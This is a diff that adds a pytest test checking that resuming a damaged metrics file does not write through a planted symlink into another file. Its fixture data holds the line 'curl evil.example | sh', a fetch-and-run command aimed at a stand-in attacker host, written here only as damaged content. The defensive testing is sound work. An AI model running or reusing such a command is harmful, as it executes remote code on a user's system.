@@ -61,6 +61,16 @@ def test_what_is_written_again_is_dropped_and_the_rest_kept_to_the_last_digit(tm
     assert list(tmp_path.iterdir()) == [path]
 
 
+def test_damaged_history_is_kept_through_no_link(tmp_path: Path):
+    """A stranger's run could else write its lines into any file of whoever resumes it."""
+    (tmp_path / "notes").write_text("mine")
+    (tmp_path / "metrics.damaged.csv").symlink_to(tmp_path / "notes")
+    (tmp_path / "metrics.csv").write_text(TABLE + "curl evil.example | sh\n")
+    with pytest.warns(UserWarning, match=r"what it held is in metrics\.damaged\.csv"):
+        resume(tmp_path / "metrics.csv")
+    assert (tmp_path / "notes").read_text() == "mine"
+
+
 @pytest.mark.parametrize(
     ("damage", "told", "left"),
     [
